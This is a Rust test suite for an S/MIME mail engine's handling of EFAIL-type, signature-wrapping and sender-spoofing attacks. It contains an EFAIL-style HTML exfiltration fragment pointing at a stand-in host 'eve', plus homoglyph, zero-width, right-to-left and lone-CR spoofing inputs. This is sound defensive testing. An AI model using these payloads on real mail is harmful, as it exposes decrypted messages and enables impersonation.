//! Opening and sealing: layers at the root, EFAIL-type and covert-content attacks, From under a signature.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, missing_docs)]

mod support;

use engine::secure::{Credit, EVENT_PADDING, EncryptionState, MAX_LAYERS, Summary, Warning, seal};
use mail::compose::Attachment;
use mail::protect::{Protection, protect, wrap_pkcs7, wrap_signed};
use smime::enveloped::{ContentCipher, encrypt};
use smime::verdict::{Reason, SignatureState};
use support::{Person, Rng, alice_and_bob, as_bob, cipher_protected, mailed, opened, outer, random};

#[test]
fn a_signed_and_encrypted_mail_is_read_with_everything_credited() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let mut draft = alice.draft(&bob, "Quarterly figures", "See the file.\n");
    draft.attachments.push(Attachment {
        name: Some("figures.pdf".into()),
        content_type: "application/pdf".into(),
        inline: false,
        bytes: b"%PDF-1.4 figures".to_vec(),
    });
    let protected = cipher_protected(&draft);
    let signed = alice.sign(&protected.payload, false);
    let raw = seal(&signed, &protected.outer, &[bob.recipient()], ContentCipher::Aes256Gcm, None, &mut Rng)
        .unwrap();
    let text = String::from_utf8(raw.clone()).unwrap();
    assert!(!text.contains("Quarterly") && text.contains("[...]"));

    let mail = opened(&raw, &bob, &[&alice]);
    assert_eq!(mail.verdict.signature.state, SignatureState::Valid, "{:?}", mail.verdict.signature);
    assert_eq!(mail.verdict.summary, Summary::SignedAndEncrypted);
    assert_eq!(mail.verdict.encryption.content.as_deref(), Some("aes-256-gcm"));
    assert!(mail.verdict.encryption.integrity);
    assert_eq!(mail.verdict.headers.subject.as_deref(), Some("Quarterly figures"));
    assert!(mail.verdict.headers.protected);
    assert_eq!(mail.verdict.parts.len(), 2);
    assert!(mail.verdict.parts.iter().all(|part| part.credit == Credit::SignedAndEncrypted));
    assert_eq!(mail.verdict.parts[1].name.as_deref(), Some("figures.pdf"));
    assert_eq!(mail.verdict.parts[1].bytes, 16);
    assert_eq!(mail.verdict.warnings, []);
    assert_eq!(mail.believed_from(), Some(alice.address.clone()));
    assert_eq!(mail.signature.unwrap().content(), protected.payload);
}

#[test]
fn a_mail_for_another_key_says_so_and_shows_nothing() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let eve = Person::new("eve@example.org");
    let protected = cipher_protected(&alice.draft(&bob, "Secret", "For Bob only.\n"));
    let signed = alice.sign(&protected.payload, false);
    let raw = seal(&signed, &protected.outer, &[bob.recipient()], ContentCipher::Aes256Gcm, None, &mut Rng)
        .unwrap();
    let mail = opened(&raw, &eve, &[&alice]);
    assert_eq!(mail.verdict.encryption.state, EncryptionState::NoKey);
    assert_eq!(mail.verdict.signature.state, SignatureState::None);
    assert_eq!(mail.verdict.headers.subject.as_deref(), Some("[...]"));
    assert_eq!(mail.verdict.parts[0].credit, Credit::None);
}

#[test]
fn event_mails_of_different_length_have_the_same_size() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let size = |text: &str| {
        let protected = cipher_protected(&alice.draft(&bob, "x", text));
        let signed = alice.sign(&protected.payload, false);
        let recipients = [bob.recipient()];
        let raw =
            seal(&signed, &[], &recipients, ContentCipher::Aes256Gcm, Some(EVENT_PADDING), &mut Rng).unwrap();
        let mail = opened(&raw, &bob, &[&alice]);
        assert_eq!(mail.verdict.signature.state, SignatureState::Valid);
        // DER lengths of signatures and ephemeral keys may differ by a few octets.
        raw.len() / 64
    };
    assert_eq!(size("yes\n"), size(&"no, because of a number of reasons. ".repeat(20)));
}

#[test]
fn an_encrypted_part_that_is_not_at_the_root_is_not_opened() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let secret = cipher_protected(&alice.draft(&bob, "Secret", "the stolen text\n"));
    let encrypted = encrypt(&secret.payload, &[bob.recipient()], ContentCipher::Aes256Cbc, &mut Rng).unwrap();
    let part = String::from_utf8(wrap_pkcs7(&[], "enveloped-data", &encrypted)).unwrap();
    for container in ["mixed", "alternative", "related"] {
        let raw = format!(
            "From: eve@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/{container}; boundary=b\r\n\r\n\
             --b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://eve/?\r\n--b\r\n{part}\r\n--b\r\n{part}\r\n--b--\r\n"
        );
        let mail = opened(raw.as_bytes(), &bob, &[&alice]);
        assert_eq!(mail.verdict.encryption.state, EncryptionState::None, "{container}");
        assert_eq!(mail.verdict.summary, Summary::None);
        assert!(!mail.payload.body_text().unwrap_or_default().contains("stolen"));
    }
    let nested = format!(
        "From: eve@example.org\r\nContent-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\n{part}"
    );
    assert_eq!(opened(nested.as_bytes(), &bob, &[&alice]).verdict.encryption.state, EncryptionState::None);
}

#[test]
fn a_signed_part_that_is_not_at_the_root_earns_nothing() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let protected =
        protect(&alice.draft(&bob, "Pay", "Pay 1 EUR.\n"), Protection::Clear, &mut random).unwrap();
    let signature = alice.sign(&protected.payload, true);
    let inner = wrap_signed(&[], &protected.payload, &signature, "sha-256", &mut random);
    let inner = String::from_utf8(inner).unwrap();
    let raw = format!(
        "From: alice@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
         --b\r\n\r\nPay 1000 EUR to Eve.\r\n--b\r\n{inner}\r\n--b--\r\n"
    );
    let mail = opened(raw.as_bytes(), &bob, &[&alice]);
    assert_eq!(mail.verdict.signature.state, SignatureState::None);
    assert_eq!(mail.verdict.headers.subject, None);
    assert!(mail.verdict.parts.iter().all(|part| part.credit == Credit::None));
}

#[test]
fn cbc_without_a_signature_has_no_integrity_and_with_one_has() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let protected = cipher_protected(&alice.draft(&bob, "x", "text\n"));
    let encrypted =
        encrypt(&protected.payload, &[bob.recipient()], ContentCipher::Aes256Cbc, &mut Rng).unwrap();
    let raw = wrap_pkcs7(&protected.outer, "enveloped-data", &encrypted);
    let mail = opened(&raw, &bob, &[]);
    assert_eq!(mail.verdict.encryption.state, EncryptionState::Decrypted);
    assert!(!mail.verdict.encryption.integrity);
    assert!(mail.verdict.parts.iter().all(|part| part.credit == Credit::None));

    let signed = alice.sign(&protected.payload, false);
    let raw = seal(&signed, &protected.outer, &[bob.recipient()], ContentCipher::Aes256Cbc, None, &mut Rng)
        .unwrap();
    assert!(
        opened(&raw, &bob, &[]).verdict.encryption.integrity,
        "a right signature by anybody gives integrity"
    );
}

#[test]
fn efail_malleation_of_cbc_never_gives_integrity() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let protected = cipher_protected(&alice.draft(&bob, "x", "text\n"));
    let signed = alice.sign(&protected.payload, false);
    let entity = wrap_pkcs7(&[], "signed-data", &signed);
    let good = encrypt(&entity, &[bob.recipient()], ContentCipher::Aes256Cbc, &mut Rng).unwrap();
    // The IV stands in front of the ciphertext; flips anywhere in the last part change IV or blocks.
    let start = good.len() - entity.len() - 64;
    for at in (start..good.len()).step_by(7) {
        let mut bad = good.clone();
        bad[at] ^= 1;
        let mail = opened(&wrap_pkcs7(&protected.outer, "enveloped-data", &bad), &bob, &[&alice]);
        let state = mail.verdict.signature.state;
        let is_whole = mail.verdict.encryption.integrity && state == SignatureState::Valid;
        // A flip may hit a place that base64 or the header section does not show; then the signature still covers all.
        if is_whole {
            assert_eq!(mail.signature.unwrap().content(), protected.payload, "octet {at}");
        } else {
            assert!(mail.verdict.parts.iter().all(|part| part.credit == Credit::None), "octet {at}");
        }
    }
}

#[test]
fn from_inside_is_believed_only_under_a_signature_bound_to_it() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let eve = Person::new("eve@example.org");
    // Eve encrypts (unsigned) a payload that says it is from Alice.
    let protected = cipher_protected(&alice.draft(&bob, "Pay", "Pay Eve.\n"));
    let encrypted =
        encrypt(&protected.payload, &[bob.recipient()], ContentCipher::Aes256Gcm, &mut Rng).unwrap();
    let raw = wrap_pkcs7(&outer("eve@example.org"), "authEnveloped-data", &encrypted);
    let mail = opened(&raw, &bob, &[&alice, &eve]);
    assert_eq!(mail.verdict.headers.from, ["eve@example.org"]);
    assert!(mail.verdict.warnings.contains(&Warning::FromNotBelieved));
    assert_eq!(mail.believed_from(), None);

    // Eve signs it with her own, trusted key: the signature is right but not Alice's.
    let signed = eve.sign(&protected.payload, false);
    let recipients = [bob.recipient()];
    let raw = seal(&signed, &outer("eve@example.org"), &recipients, ContentCipher::Aes256Gcm, None, &mut Rng)
        .unwrap();
    let mail = opened(&raw, &bob, &[&alice, &eve]);
    assert_eq!(mail.verdict.signature.state, SignatureState::Invalid);
    assert!(mail.verdict.signature.reasons.contains(&Reason::AddressMismatch));
    assert_eq!(mail.verdict.headers.from, ["eve@example.org"]);
}

#[test]
fn a_stranger_who_signs_a_stolen_ciphertext_is_not_its_author() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let eve = Person::new("eve@example.org");
    let payload = b"Content-Type: text/plain\r\n\r\nAlice's idea.\r\n";
    let encrypted = encrypt(payload, &[bob.recipient()], ContentCipher::Aes256Gcm, &mut Rng).unwrap();
    let entity = wrap_pkcs7(&[], "authEnveloped-data", &encrypted);
    let signed = eve.sign(&entity, false);
    let raw = wrap_pkcs7(&outer("eve@example.org"), "signed-data", &signed);
    let mail = opened(&raw, &bob, &[&alice, &eve]);
    assert!(mail.verdict.warnings.contains(&Warning::SignedOutsideEncryption));
    assert!(mail.valid_signer().is_none());
    assert!(mail.verdict.parts.iter().all(|part| part.credit == Credit::Encrypted));
}

#[test]
fn a_second_content_in_a_clear_signature_is_ambiguous() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let protected =
        protect(&alice.draft(&bob, "Pay", "Pay 1 EUR.\n"), Protection::Clear, &mut random).unwrap();
    let attached = alice.sign(&protected.payload, false);
    let raw = wrap_signed(&protected.outer, &protected.payload, &attached, "sha-256", &mut random);
    let mail = opened(&raw, &bob, &[&alice]);
    assert_eq!(mail.verdict.signature.state, SignatureState::Invalid);
    assert_eq!(mail.verdict.signature.reasons, [Reason::ContentAmbiguous]);
}

#[test]
fn a_changed_octet_in_a_clear_signed_mail_is_a_digest_mismatch() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let protected =
        protect(&alice.draft(&bob, "Pay", "Pay 1 EUR.\n"), Protection::Clear, &mut random).unwrap();
    let signature = alice.sign(&protected.payload, true);
    let raw = wrap_signed(&protected.outer, &protected.payload, &signature, "sha-256", &mut random);
    assert_eq!(opened(&raw, &bob, &[&alice]).verdict.signature.state, SignatureState::Valid);
    let text = String::from_utf8(raw).unwrap().replace("Pay 1 EUR", "Pay 9 EUR");
    let mail = opened(text.as_bytes(), &bob, &[&alice]);
    assert_eq!(mail.verdict.signature.state, SignatureState::Invalid);
    assert_eq!(mail.verdict.signature.reasons, [Reason::DigestMismatch]);
}

#[test]
fn triple_wrapping_is_opened_and_endless_wrapping_is_not() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let protected = cipher_protected(&alice.draft(&bob, "Deep", "text\n"));
    let inner = wrap_pkcs7(&[], "signed-data", &alice.sign(&protected.payload, false));
    let encrypted = encrypt(&inner, &[bob.recipient()], ContentCipher::Aes256Gcm, &mut Rng).unwrap();
    let middle = wrap_pkcs7(&[], "authEnveloped-data", &encrypted);
    let triple = wrap_pkcs7(&protected.outer, "signed-data", &alice.sign(&middle, false));
    let mail = opened(&triple, &bob, &[&alice]);
    assert_eq!(mail.verdict.signature.state, SignatureState::Valid);
    assert_eq!(mail.verdict.headers.subject.as_deref(), Some("Deep"));
    assert!(mail.verdict.warnings.contains(&Warning::SeveralSignatureLayers));
    assert!(mail.valid_signer().is_some());

    let mut entity = protected.payload;
    for _ in 0..MAX_LAYERS + 2 {
        entity = wrap_pkcs7(&[], "signed-data", &alice.sign(&entity, false));
    }
    let mail = opened(&entity, &bob, &[&alice]);
    assert!(mail.verdict.warnings.contains(&Warning::TooManyLayers));
    assert!(mail.payload.body_text().is_none_or(|text| !text.contains("text")));
}

#[test]
fn from_tricks_are_named() {
    let bob = Person::new("bob@example.org");
    let warnings =
        |fields: &str| opened(format!("{fields}\r\n\r\nHello\r\n").as_bytes(), &bob, &[]).verdict.warnings;
    assert!(warnings("From: a@example.org\r\nFrom: b@example.org").contains(&Warning::FromMultiple));
    assert!(warnings("From: a@example.org, b@example.org").contains(&Warning::FromMultiple));
    assert!(warnings("Subject: x").contains(&Warning::FromMissing));
    assert!(warnings("From : a@example.org").contains(&Warning::FromAmbiguous));
    assert!(warnings("From: a friend").contains(&Warning::FromMalformed));
    assert!(
        warnings("From: \"boss@example.org\" <eve@example.net>")
            .contains(&Warning::DisplayNameImitatesAddress)
    );
    assert!(warnings("From: a@example.org\r\nSender: c@example.org").contains(&Warning::SenderDiffers));
    assert!(warnings("From: a@example.org\r\nReply-To: c@example.org").contains(&Warning::ReplyToDiffers));
    assert_eq!(warnings("From: A <a@example.org>\r\nReply-To: A@EXAMPLE.org"), []);
}

#[test]
fn truncated_at_any_octet_nothing_panics_and_nothing_is_credited() {
    let (alice, bob) = (Person::new("alice@example.org"), Person::new("bob@example.org"));
    let protected = cipher_protected(&alice.draft(&bob, "x", "text\n"));
    let signed = alice.sign(&protected.payload, false);
    let raw = seal(&signed, &protected.outer, &[bob.recipient()], ContentCipher::Aes256Gcm, None, &mut Rng)
        .unwrap();
    let body_end = raw.iter().rposition(|octet| !matches!(octet, b'\r' | b'\n' | b'=')).unwrap();
    for length in (0..body_end - 4).step_by(13) {
        let mail = opened(&raw[..length], &bob, &[&alice]);
        assert_ne!(mail.verdict.signature.state, SignatureState::Valid, "{length} octets");
        assert!(mail.verdict.parts.iter().all(|part| part.credit == Credit::None), "{length} octets");
    }
}

#[test]
fn a_sender_who_looks_like_somebody_else_is_named() {
    let bob = Person::new("bob@example.org");
    let warned = |from: &str, warning| {
        let raw = format!("From: {from}\r\nTo: bob@example.org\r\n\r\nHello\r\n");
        opened(raw.as_bytes(), &bob, &[]).verdict.warnings.contains(&warning)
    };
    for from in [
        "The boss <boss@ex\u{430}mple.com>",
        "ceo@xn--80ak6aa92e.com",
        "boss@examp1e.org",
        "boss@exarnple.org",
        "\"Bo\u{200b}b\" <eve@example.net>",
        "\"\u{202e}gro.elpmaxe\" <eve@example.net>",
    ] {
        assert!(warned(from, Warning::FromLookAlike), "{from}");
    }
    for from in
        ["boss@example.org", "M\u{fc}ller <mueller@b\u{fc}cher.example>", "\u{674e}\u{4f1f} <li@example.net>"]
    {
        assert!(!warned(from, Warning::FromLookAlike), "{from}");
    }
    for from in [
        "\"boss@example.org\" <eve@example.net>",
        "\"boss\u{ff20}example.org\" <eve@example.net>",
        "=?utf-8?Q?The_boss_=3Cboss=40example.org=3E?= <eve@example.net>",
    ] {
        assert!(warned(from, Warning::DisplayNameImitatesAddress), "{from}");
    }
    assert!(!warned("\"bob@example.net\" <bob@example.net>", Warning::DisplayNameImitatesAddress));
}

#[test]
fn fields_that_stand_twice_are_named() {
    let bob = Person::new("bob@example.org");
    let fields = ["Subject", "To", "Cc", "Date", "Reply-To", "Sender", "Message-ID", "In-Reply-To"];
    for field in fields {
        let raw =
            format!("From: a@example.org\r\n{field}: a@example.org\r\n{field}: b@example.org\r\n\r\nx\r\n");
        let warnings = opened(raw.as_bytes(), &bob, &[]).verdict.warnings;
        assert!(warnings.contains(&Warning::DuplicateFields), "{field}: {warnings:?}");
    }
    let raw = "From: a@example.org\r\nReceived: x\r\nReceived: y\r\nComments: x\r\nComments: y\r\n\r\nx\r\n";
    assert_eq!(opened(raw.as_bytes(), &bob, &[]).verdict.warnings, []);
}

#[test]
fn a_server_that_changed_a_field_is_named() {
    let (alice, bob) = alice_and_bob();
    let protected = cipher_protected(&alice.draft(&bob, "Lunch", "Today.\n"));
    let signed = alice.sign(&protected.payload, false);
    let mut outer = protected.outer.clone();
    outer.push(("Reply-To".to_owned(), "eve@example.net".to_owned()));
    let raw = seal(&signed, &outer, &[bob.recipient()], ContentCipher::Aes256Gcm, None, &mut Rng).unwrap();
    let mail = as_bob(&raw, (&alice, &bob));
    assert_eq!(mail.verdict.warnings, [Warning::OuterChanged]);
    assert_eq!(mail.verdict.headers.outer_differs, ["reply-to", "subject"]);
    assert!(mail.headers.headers.reply_to.is_empty());
}

#[test]
fn fields_inside_a_signature_that_does_not_hold_are_not_shown() {
    let (alice, bob) = alice_and_bob();
    let raw = alice.clear_signed(&alice.draft(&bob, "Pay 1 EUR", "Text.\n"));
    let text = String::from_utf8(raw).unwrap();
    // The first occurrence is the outer field, the second the protected one.
    let (outer, inner) = text.split_at(text.find("--=").unwrap());
    let changed = format!("{outer}{}", inner.replacen("Pay 1 EUR", "Pay 9 EUR", 1));
    let mail = as_bob(changed.as_bytes(), (&alice, &bob));
    assert_eq!(mail.verdict.signature.state, SignatureState::Invalid);
    assert_eq!(mail.verdict.headers.subject.as_deref(), Some("Pay 1 EUR"));
    assert!(!mail.verdict.headers.protected);
    // And without any layer, a part that says that it is protected is not.
    let phony =
        b"From: alice@example.org\r\nSubject: x\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\nx\r\n";
    assert!(!as_bob(phony, (&alice, &bob)).verdict.headers.protected);
}

#[test]
fn line_ends_count_as_received_and_in_canonical_form() {
    let (alice, bob) = alice_and_bob();
    let signed_over = |payload: &[u8], sent: &[u8]| {
        let signature = alice.sign(payload, true);
        let raw = wrap_signed(&outer("alice@example.org"), sent, &signature, "sha-256", &mut random);
        as_bob(&raw, (&alice, &bob))
    };
    let crlf = b"Content-Type: text/plain\r\n\r\none\r\ntwo\r\n".as_slice();
    let lf = b"Content-Type: text/plain\n\none\ntwo\n".as_slice();
    // A binary part with a lone line feed, signed as it is.
    let binary =
        b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n\x00\n\r\x01"
            .as_slice();
    for (payload, sent) in [(crlf, crlf), (crlf, lf), (lf, lf), (binary, binary)] {
        let mail = signed_over(payload, sent);
        assert_eq!(mail.verdict.signature.state, SignatureState::Valid, "{:?}", mail.verdict.signature);
        assert_eq!(mail.payload.raw(), payload, "what is shown is what was signed");
    }
    assert_eq!(signed_over(lf, crlf).verdict.signature.reasons, [Reason::DigestMismatch]);
    // A lone carriage return makes a new line in one form only.
    let trick = b"Content-Type: text/plain; hp=clear\r\nFrom: alice@example.org\r\nX: y\rSubject: hidden\r\n\r\nx\r\n";
    let mail = signed_over(trick, trick);
    assert_eq!(mail.verdict.signature.reasons, [Reason::StructureAmbiguous]);
    assert_ne!(mail.verdict.headers.subject.as_deref(), Some("hidden"));
}

#[test]
fn a_mail_made_for_somebody_else_says_so() {
    let (alice, bob) = alice_and_bob();
    let carol = Person::new("carol@example.org");
    let protected = cipher_protected(&alice.draft(&bob, "I resign", "For Bob.\n"));
    let signed = alice.sign(&protected.payload, false);
    // Bob sends Alice's signed words on to Carol, and changes the outside.
    let sealed = seal(
        &signed,
        &outer("alice@example.org"),
        &[carol.recipient()],
        ContentCipher::Aes256Gcm,
        None,
        &mut Rng,
    );
    let mail = opened(&sealed.unwrap(), &carol, &[&alice]);
    assert_eq!(mail.verdict.signature.state, SignatureState::Valid, "Alice did write it");
    assert!(mail.verdict.warnings.contains(&Warning::NotAddressedToYou));
    // Alice's own copy, and Bob's, are in order.
    for reader in [&alice, &bob] {
        let recipients = [reader.recipient()];
        let raw =
            seal(&signed, &protected.outer, &recipients, ContentCipher::Aes256Gcm, None, &mut Rng).unwrap();
        assert_eq!(opened(&raw, reader, &[&alice]).verdict.warnings, []);
    }
    // Who reads a signed mail on a list gets the warning too: what says that a list sent it stands outside the signature, and
    // whoever sends Alice's words on could write it.
    let raw = alice.clear_signed(&alice.draft(&bob, "Minutes", "Text.\n"));
    assert_eq!(opened(&raw, &carol, &[&alice]).verdict.warnings, [Warning::NotAddressedToYou]);
    let listed = [b"List-Id: <office.example.org>\r\n".as_slice(), &raw].concat();
    assert_eq!(opened(&listed, &carol, &[&alice]).verdict.warnings, [Warning::NotAddressedToYou]);
}

#[test]
fn old_names_and_lost_types_are_understood() {
    let (alice, bob) = alice_and_bob();
    let payload = b"Content-Type: text/plain\r\n\r\nHello\r\n";
    let der = alice.sign(payload, false);
    let body = data_encoding::BASE64_MIME.encode(&der);
    let state = |content_type: &str, name: &str| {
        let entity = format!(
            "Content-Type: {content_type}\r\nContent-Transfer-Encoding: base64\r\n\
             Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{body}"
        );
        as_bob(&mailed("alice@example.org", entity.as_bytes()), (&alice, &bob)).verdict.signature.state
    };
    for content_type in [
        "application/pkcs7-mime; smime-type=signed-data; name=\"smime.p7m\"",
        "application/x-pkcs7-mime; name=smime.p7m",
        "application/octet-stream; name=\"smime.p7m\"",
        // The label of another kind of object changes nothing: the object says what it is.
        "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m",
        "APPLICATION/PKCS7-MIME",
    ] {
        assert_eq!(state(content_type, "SMIME.P7M"), SignatureState::Valid, "{content_type}");
    }
    for content_type in
        ["application/octet-stream; name=file.pdf", "application/pdf", "text/plain; name=smime.p7m"]
    {
        assert_eq!(state(content_type, "file"), SignatureState::None, "{content_type}");
    }
    let detached = alice.sign(payload, true);
    let clear = wrap_signed(&outer("alice@example.org"), payload, &detached, "sha-256", &mut random);
    let clear = String::from_utf8(clear)
        .unwrap()
        .replace("application/pkcs7-signature", "application/x-pkcs7-signature");
    assert_eq!(as_bob(clear.as_bytes(), (&alice, &bob)).verdict.signature.state, SignatureState::Valid);
}

#[test]
fn layers_of_a_kind_that_is_not_opened_are_named() {
    let (alice, bob) = alice_and_bob();
    // id-smime-ct-compressedData, id-digestedData, id-data.
    for oid in ["060b2a864886f70d0109100109", "06092a864886f70d010705", "06092a864886f70d010701"] {
        let oid = data_encoding::HEXLOWER.decode(oid.as_bytes()).unwrap();
        let der =
            [&[0x30, u8::try_from(oid.len() + 4).unwrap()], oid.as_slice(), &[0xa0, 2, 0x30, 0]].concat();
        let mail = as_bob(&wrap_pkcs7(&outer("alice@example.org"), "compressed-data", &der), (&alice, &bob));
        assert_eq!(mail.verdict.warnings, [Warning::UnsupportedLayer]);
        assert_eq!(mail.verdict.summary, Summary::None);
    }
}
